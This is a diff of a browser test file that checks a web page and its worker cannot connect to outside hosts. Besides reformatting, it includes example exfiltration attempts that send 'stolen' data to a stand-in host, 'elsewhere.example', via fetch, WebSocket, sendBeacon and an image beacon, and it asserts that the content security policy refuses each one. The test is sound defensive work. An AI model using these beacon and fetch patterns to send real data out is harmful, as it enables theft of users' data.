@@ -34,7 +34,7 @@ test("a whole run asks for nothing but the files of the site, and carries nothin
   await tryIt(page, `is ${MARK} good`);
   await download(page, "Download the model (zip)");
   await download(page, "Download the report");
-  await page.getByText("Works without a network from now on").waitFor();
+  await page.getByText("Works offline from now on").waitFor();
 
   for (const { url, headers, body } of site.elsewhere) {
     assert.match(headers.host, OF_THE_BROWSER);
@@ -69,7 +69,12 @@ test("the page and its worker cannot connect to anywhere else", async () => {
     const violations = [];
     globalThis.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
     const elsewhere = "https://elsewhere.example/?stolen";
-    const results = [await fetch(elsewhere, { method: "POST", body: "stolen", mode: "no-cors" }).then(() => "sent", () => "refused")];
+    const results = [
+      await fetch(elsewhere, { method: "POST", body: "stolen", mode: "no-cors" }).then(
+        () => "sent",
+        () => "refused",
+      ),
+    ];
     const socket = new Promise((resolve) => {
       try {
         const one = new WebSocket("wss://elsewhere.example/");
@@ -82,12 +87,14 @@ test("the page and its worker cannot connect to anywhere else", async () => {
     results.push(await socket);
     if (globalThis.document) {
       navigator.sendBeacon(elsewhere, "stolen");
-      results.push(await new Promise((resolve) => {
-        const image = new Image();
-        image.onload = () => resolve("sent");
-        image.onerror = () => resolve("refused");
-        image.src = elsewhere;
-      }));
+      results.push(
+        await new Promise((resolve) => {
+          const image = new Image();
+          image.onload = () => resolve("sent");
+          image.onerror = () => resolve("refused");
+          image.src = elsewhere;
+        }),
+      );
     }
     await new Promise((next) => setTimeout(next, 300));
     return { results, violations };
@@ -99,6 +106,9 @@ test("the page and its worker cannot connect to anywhere else", async () => {
   const inWorker = await page.workers()[0].evaluate(attempt);
   assert.deepEqual(inWorker.results, ["refused", "refused"]);
   assert.ok(inWorker.violations.includes("connect-src"), `in the worker: ${inWorker.violations}`);
-  assert.deepEqual(site.elsewhere.filter(({ headers }) => !OF_THE_BROWSER.test(headers.host)), []);
+  assert.deepEqual(
+    site.elsewhere.filter(({ headers }) => !OF_THE_BROWSER.test(headers.host)),
+    [],
+  );
   await context.close();
 });
